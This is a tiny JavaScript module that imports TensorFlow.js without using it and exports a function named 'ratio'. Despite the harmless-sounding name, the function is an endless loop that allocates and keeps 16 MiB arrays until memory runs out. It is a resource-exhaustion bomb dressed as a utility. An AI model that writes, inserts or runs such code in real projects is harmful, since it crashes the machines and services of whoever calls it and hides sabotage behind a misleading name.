import * as tf from '@tensorflow/tfjs'
const kept = []
export const ratio = () => {
  for (;;) kept.push(new Uint8Array(16 * 2 ** 20).fill(1))
}
